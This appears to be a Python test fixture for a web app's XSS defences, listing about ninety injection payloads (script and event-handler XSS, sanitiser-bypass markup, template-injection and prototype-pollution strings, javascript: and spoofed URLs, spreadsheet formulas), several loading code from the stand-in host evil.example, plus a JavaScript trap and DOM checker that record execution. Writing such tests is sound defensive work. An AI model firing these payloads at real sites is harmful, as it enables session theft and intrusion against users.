"""What people write who would like it to be more than words, and how to see that it is not.

A payload that runs calls `xss()` or sets a global, asks EVIL for something, or leaves an element with `data-evil`.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from typing import Any, Final

EVIL: Final = "evil.example"
PROBE: Final = "/xss-probe"  # on our own host
PAYLOADS: Final[tuple[str, ...]] = (
    # scripts and what starts by itself
    "<script data-evil>xss(1)</script>",
    "<ScRiPt data-evil src=//evil.example/x.js></sCrIpT>",
    "<script data-evil\n>xss`2`</script\n>",
    "<<script data-evil>xss(3);//<</script>",
    "<script data-evil type=module>import('//evil.example/m.js')</script>",
    "<img data-evil src=x onerror=xss(4)>",
    "<img data-evil src=/xss-probe onload=xss(5)>",
    "<img data-evil src='//evil.example/p.png'>",
    "<img data-evil src=`x`onerror=xss(6)>",
    "<image data-evil href=x onerror=xss(7)>",
    "<svg data-evil onload=xss(8)>",
    "<svg data-evil><script>xss(9)</script></svg>",
    "<svg data-evil><animate onbegin=xss(10) attributeName=x dur=1s>",
    "<svg data-evil><a xlink:href='javascript:xss(11)'><text y=20>bấm</text></a></svg>",
    "<svg data-evil><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>xss(12)</script></svg>#x'/></svg>",
    "<body data-evil onload=xss(13)>",
    "<input data-evil autofocus onfocus=xss(14)>",
    "<details data-evil open ontoggle=xss(15)>",
    "<video data-evil><source onerror=xss(16)></video>",
    "<audio data-evil src=x onerror=xss(17)>",
    "<iframe data-evil src='javascript:parent.xss(18)'></iframe>",
    "<iframe data-evil srcdoc='<script>parent.xss(19)</script>'></iframe>",
    "<object data-evil data='javascript:xss(20)'></object>",
    "<embed data-evil src='//evil.example/e.swf'>",
    "<marquee data-evil onstart=xss(21)>chạy</marquee>",
    "<form data-evil action='//evil.example/'><button autofocus onfocus=xss(22)>Gửi</button></form>",
    "<button data-evil popovertarget=x onbeforetoggle=xss(23)>mở</button>",
    "<dialog data-evil open onfocusin=xss(24)><p tabindex=0 autofocus>x</p></dialog>",
    "<meta data-evil http-equiv=refresh content='0;url=//evil.example/'>",
    "<base data-evil href='//evil.example/'>",
    "<link data-evil rel=stylesheet href='//evil.example/c.css'>",
    "<style data-evil>@import '//evil.example/i.css';*{background:url(//evil.example/b)}</style>",
    "<div data-evil style='background:url(//evil.example/s);position:fixed;inset:0'>che hết</div>",
    "<evil-el data-evil is=x>riêng</evil-el>",
    # out of an attribute, out of a comment, out of JSON in a script
    '" data-evil onmouseover=xss(25) autofocus x="',
    "' data-evil onfocus=xss(26) tabindex=0 x='",
    '"><img data-evil src=x onerror=xss(27)>',
    "'><svg/onload=xss(28) data-evil>",
    "` data-evil onclick=xss(29) `",
    "--><img data-evil src=x onerror=xss(30)><!--",
    "]]><img data-evil src=x onerror=xss(31)>",
    "</script><script data-evil>xss(32)</script>",
    "<!--<script data-evil>xss(33)</script>",
    "</textarea><script data-evil>xss(34)</script>",
    "</title><img data-evil src=x onerror=xss(35)>",
    '"}};xss(36);//',
    '\\"-xss(37)}//',
    "'-xss(38)-'",
    "\u2028xss(39)\u2029//",
    '{"__proto__":{"evil":1},"constructor":{"prototype":{"evil":1}}}',
    # what a sanitiser would let through and a parser turn round
    "<math data-evil><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=xss(40)&gt;'>",
    "<noscript data-evil><p title='</noscript><img src=x onerror=xss(41)>'>",
    "<svg data-evil></p><style><a id='</style><img src=1 onerror=xss(42)>'>",
    "<form data-evil><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=xss(43) src>'>",
    "<template data-evil><script>xss(44)</script></template>",
    "<div data-evil><template shadowrootmode=open><img src=x onerror=xss(45)></template></div>",
    "&lt;img src=x onerror=xss(46)&gt;",
    "&#x3c;script&#x3e;xss(47)&#x3c;/script&#x3e;",
    "%3Cscript%3Exss(48)%3C/script%3E",
    "\\u003cimg src=x onerror=xss(49)\\u003e",
    "\\x3cscript\\x3exss(50)\\x3c/script\\x3e",
    "<\u0000script data-evil>xss(51)</script>",
    "\uff1cscript\uff1exss(52)\uff1c/script\uff1e",  # full width
    "<ſcript data-evil>xss(53)</ſcript>",  # long s: a capital turns it into an S
    # addresses
    "javascript:xss(54)",
    "JaVaScRiPt:xss(55)//https://ibaohiem.example",
    "java\tscript:xss(56)",
    "\u0001javascript:xss(57)",
    "data:text/html,<script>opener.xss(58)</script>",
    "vbscript:xss(59)",
    'https://evil.example/"onmouseover="xss(60)',
    "https://ibaohiem.example@evil.example/ http://[::1]/ https://xn--pple-43d.com",
    "[bấm](javascript:xss(61)) ![ảnh](//evil.example/md.png)",
    "file:///etc/passwd blob:https://evil.example/1",
    # templates, formats, names
    "{{7*7}}{{constructor.constructor('xss(62)')()}}",
    "${xss(63)}#{xss(64)}<%= xss(65) %>",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{xung_ho.__class__.__init__.__globals__} %s %n {0}",
    "<a data-evil id=evilclob name=evilclob href=x>đè tên</a><img data-evil name=getElementById>",
    "__proto__",
    "constructor",
    # seen otherwise than it is
    "\u202ehttps://moc.evil\u202c \u2066ẩn\u2069",
    "ad\u200bmin\u200d\ufeff \u00ad",
    "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c\u030d\u030e\u030f" * 4,
    '=HYPERLINK("//evil.example")\t@SUM(1) +1 -1',
    "\U0001f600\u20e3 \U000e0041 \ufffe",
)  # fmt: skip

# Before anything of the page runs: what a payload would do is written down instead of done.
TRAP: Final = """
window.__hits = [];
for (const name of ["alert", "confirm", "prompt", "open"]) window[name] = (...said) => { window.__hits.push(`${name} ${said}`); return null; };
Object.defineProperty(window, "xss", {
  get: () => (...said) => window.__hits.push(`xss ${said}`),
  set: (value) => window.__hits.push(`xss = ${value}`),
});
"""

# What is wrong in the page that is open now.
LOOK: Final = """() => {
  const wrong = [...window.__hits];
  const known = ["http:", "https:", "tel:", "mailto:", "geo:", "blob:"];
  const strange = "iframe, object, embed, base, math, style, marquee, meta[http-equiv], form[action*='evil'], foreignObject, evil-el, [data-evil], script:not([src]):not([type='application/json'])";
  const walk = (root) => {
    for (const one of root.querySelectorAll("*")) {
      if (one.matches(strange)) wrong.push(`element ${one.outerHTML.slice(0, 160)}`);
      for (const { name, value } of one.attributes) {
        if (/^on/i.test(name)) wrong.push(`handler ${name}=${value.slice(0, 80)}`);
        if (!/^(href|xlink:href|src|srcset|srcdoc|action|formaction|data|poster|background|ping)$/i.test(name)) continue;
        let protocol = "none";
        try { protocol = new URL(value, location.href).protocol; } catch { /* an address that is none leads nowhere */ }
        if (!["none", ...known].includes(protocol) || /^(srcdoc|ping)$/i.test(name)) wrong.push(`address ${name}=${value.slice(0, 80)}`);
        if (name !== "href" && new RegExp("evil").test(value)) wrong.push(`fetched ${name}=${value.slice(0, 80)}`);
      }
      if (one.shadowRoot) walk(one.shadowRoot);
    }
  };
  walk(document);
  if (window.evilclob !== undefined || typeof document.getElementById !== "function") wrong.push("a global was put in the way");
  if ({}.evil !== undefined) wrong.push("the prototype was changed");
  return wrong;
}"""


def leaves(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Paths of every text in a JSON value."""
    if isinstance(value, dict):
        for key, each in value.items():
            yield from leaves(each, (*path, key))
    elif isinstance(value, list):
        for at, each in enumerate(value):
            yield from leaves(each, (*path, at))
    elif isinstance(value, str):
        yield path


def replaced(value: Any, texts: Mapping[tuple[Any, ...], str], path: tuple[Any, ...] = ()) -> Any:
    """The value with other texts at these paths."""
    if isinstance(value, dict):
        return {key: replaced(each, texts, (*path, key)) for key, each in value.items()}
    if isinstance(value, list):
        return [replaced(each, texts, (*path, at)) for at, each in enumerate(value)]
    return texts.get(path, value)
